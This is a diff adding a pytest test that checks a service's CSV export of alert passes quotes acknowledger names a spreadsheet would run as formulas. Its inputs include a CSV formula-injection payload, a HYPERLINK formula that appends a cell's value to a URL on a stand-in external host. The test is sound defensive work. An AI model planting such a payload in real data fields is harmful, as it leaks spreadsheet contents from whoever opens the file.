@@ -155,3 +155,16 @@ def test_alert_json_has_the_passes_asked_and_the_details_of_the_latest_ask(clien
     assert alerts["a4"]["details"] == {"metric": "wait", "value": 21}
     assert (alerts["a1"]["passes"], alerts["a1"]["details"]) == (1, None)
     assert alerts["cam"]["passes"] == 0
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://x.example/?"&A1,"ok")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"]
+)
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_quoted_in_the_pass_csv(tmp_path, name):
+    client = client_for(site_config(tmp_path), Clock(NOW))
+    store = client.app.state.lobbywatch.store.store()
+    insert_alert(store, "a1", local(6, 8))
+    store.apply_ack("a1", name, "pass_done", local(6, 8, 5))
+    passes = client.get("/v1/reports/passes", params={"format": "csv"}, headers=auth("viewer")).text
+    (row,) = csv.DictReader(io.StringIO(passes))
+    assert row["accepted_by"] == row["done_by"] == "'" + name
